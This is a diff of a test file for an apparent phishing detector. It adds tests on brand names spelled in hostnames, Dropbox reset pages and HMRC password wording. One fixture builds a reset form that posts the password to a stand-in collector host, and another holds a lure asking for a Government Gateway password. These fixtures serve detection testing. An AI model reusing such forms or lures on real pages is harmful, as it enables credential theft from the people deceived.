@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { brandsNamedIn } from "./agents/brand-names.js";
-import { genericName } from "./agents/content/brand.js";
+import { genericName, selfName } from "./agents/content/brand.js";
 import { claimSeverity } from "./agents/content/index.js";
 import { buildContext } from "./agents/context.js";
 import { hostEvidence } from "./agents/host-evidence.js";
@@ -240,6 +240,60 @@ describe("the page's own name against the name's readings", () => {
       page("Inicia sesión en PayPal Soporte", `<h1>PayPal Soporte</h1>${form}`),
     );
     expect(claimed.final_assessment).not.toBe("Benign");
+  });
+
+  it("reads a name spelled in its host without its accents or with 'and' for '&' as the page's own", () => {
+    const own = (url: string, title: string) =>
+      selfName(buildContext(savedCapture(url, page(title, "<h1>Welcome</h1>")), { rankLookup: false }), {
+        distinctive: true,
+      });
+    // ö written oe, as German writes it without accents: a transliteration, read like a romanization.
+    expect(own("https://www.roesterei-hansen.shop/kasse", "Kasse – Rösterei Hansen")).toBe("romanized");
+    expect(own("https://moeller-tandklinik.dk/", "Møller Tandklinik")).toBe("romanized");
+    expect(
+      own("https://ledger-and-line.webflow.io/portal", "Client Portal | Ledger & Line Bookkeeping"),
+    ).toBe("latin");
+    expect(own("https://www.roesterei-hansen.shop/kasse", "Kasse – Kaffeehaus Berger")).toBeNull();
+  });
+
+  it("takes a file-sharing service's own reset page for the service's, not a user's file", async () => {
+    const reset = (action: string) =>
+      page(
+        "Reset password - Dropbox",
+        `<h1>Create a new password</h1><p>Enter a new password for m.okafor@fastmail.com.</p>
+         <form method="post" action="${action}"><input type="password" name="password" autocomplete="new-password">
+         <input type="password" name="confirm" autocomplete="new-password"><button>Change password</button></form>`,
+      );
+    const own = await analyze("https://www.dropbox.com/reset_password?t=rp_1", reset("/ajax_reset_password"));
+    expect(codes(own)).not.toContain("CON-013");
+    expect(own.final_assessment).toBe("Benign");
+    // A form on the service's host that sends the password elsewhere is no page of the service.
+    const elsewhere = await analyze(
+      "https://www.dropbox.com/reset_password?t=rp_1",
+      reset("https://collect-7f2.example-drop.top/r.php"),
+    );
+    expect(elsewhere.final_assessment).not.toBe("Benign");
+  });
+
+  it("reads a promise never to ask for a brand's password as no ask for it", async () => {
+    const signIn = (warning: string) =>
+      page(
+        "Client Portal | Ledger & Line Bookkeeping",
+        `<h1>Client login</h1><form method="post" action="https://api.ledgerandline.co.uk/portal/session">
+         <input type="email" name="email"><input type="password" name="password"><button>Sign in</button></form>
+         <p>${warning}</p>`,
+      );
+    const promise = await analyze(
+      "https://ledger-and-line.webflow.io/portal",
+      signIn("I will never ask you for your HMRC Government Gateway password."),
+    );
+    expect(finding(promise, "CON-013")?.severity).toBe("Low");
+    expect(promise.final_assessment).toBe("Benign");
+    const ask = await analyze(
+      "https://ledger-and-line.webflow.io/portal",
+      signIn("Enter your HMRC Government Gateway password to link your return."),
+    );
+    expect(finding(ask, "CON-013")?.severity).toBe("Medium");
   });
 
   it("does not let the name model decide a project's own sign-in on a platform subdomain named like it", async () => {
